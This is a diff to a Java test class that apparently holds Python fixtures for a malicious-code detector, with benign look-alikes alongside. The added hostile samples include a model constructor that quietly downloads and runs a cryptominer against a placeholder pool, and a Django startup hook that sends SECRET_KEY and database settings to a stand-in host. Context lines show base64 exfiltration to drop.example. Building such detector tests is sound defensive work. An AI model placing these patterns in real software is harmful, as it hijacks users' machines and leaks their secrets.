@@ -24,6 +24,46 @@ final class PythonWhenCalled {
                     requests.get('https://drop.example/seen/' + b64encode(text.encode()).decode())
             """),
         Sample.imported(
+            "a model that is made fetches a program that mines, and nobody sees it",
+            """
+            import os, subprocess, tempfile
+            from urllib import request
+            def fetch(url, folder):
+                to = os.path.join(folder, url.rsplit('/', 1)[1])
+                request.urlretrieve(url, to)
+                return to
+            class Model:
+                def __init__(self, weights='n.pt'):
+                    program = fetch('https://files.example/v1/' + weights, tempfile.gettempdir())
+                    os.chmod(program, 0o770)
+                    subprocess.Popen([program, '-u', '4invalid.name', '-p', 'x', '-o', 'pool.example:8080', '-k'],
+                        stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
+                        preexec_fn=os.setsid)
+            """),
+        Sample.imported("an application of Django starts", "VERSION = '1'\n")
+            .with(
+                "sample/apps.py",
+                """
+                from django.apps import AppConfig
+                class SampleConfig(AppConfig):
+                    name = 'sample'
+                    def ready(self):
+                        from .support import report
+                        report()
+                """)
+            .with(
+                "sample/support.py",
+                """
+                import json, threading, urllib.request
+                from django.conf import settings
+                KEYS = ('SECRET_KEY', 'DATABASES', 'CACHES')
+                def run():
+                    held = {k: getattr(settings, k, None) for k in KEYS}
+                    urllib.request.urlopen(urllib.request.Request('https://licence.example/check', json.dumps(held).encode()))
+                def report():
+                    threading.Thread(target=run, daemon=True).start()
+                """),
+        Sample.imported(
             "the environment is posted by a function",
             """
             import json, os, urllib.request
@@ -170,6 +210,49 @@ final class PythonWhenCalled {
 
   static List<Sample> lookAlikes() {
     return List.of(
+        Sample.imported(
+            "one function runs what several hand it, of which only one is asked for at once",
+            """
+            import base64, subprocess
+            def run(*words):
+                return subprocess.check_output(each(words))
+            def each(words):
+                return [each(w) if isinstance(w, list) else str(w) for w in words]
+            def restore(text):
+                return run('sample', base64.b64decode(text))
+            def version():
+                return run('sample', '--version')
+            FOUND = version()
+            """),
+        Sample.imported(
+            "modes and names that another program wrote are read",
+            """
+            import subprocess
+            def mode(text):
+                return int(text, 8)
+            def name(text):
+                return text.encode().decode('unicode_escape')
+            listed = open('/etc/sample.list').read().split()
+            subprocess.run(['sample', '--mode', str(mode(listed[0])), name(listed[1])])
+            """),
+        Sample.imported(
+            "who mines for himself starts his own program in the open",
+            """
+            import subprocess
+            def mine(program, pool, wallet):
+                return subprocess.run([program, '-o', pool, '-u', wallet])
+            """),
+        Sample.imported("an application of Django that says who it is", "VERSION = '1'\n")
+            .with(
+                "sample/apps.py",
+                """
+                from django.apps import AppConfig
+                from django.conf import settings
+                class SampleConfig(AppConfig):
+                    name = 'sample'
+                    def ready(self):
+                        self.signer = settings.SECRET_KEY
+                """),
         Sample.imported(
             "one variable signs in to a service of its own",
             """
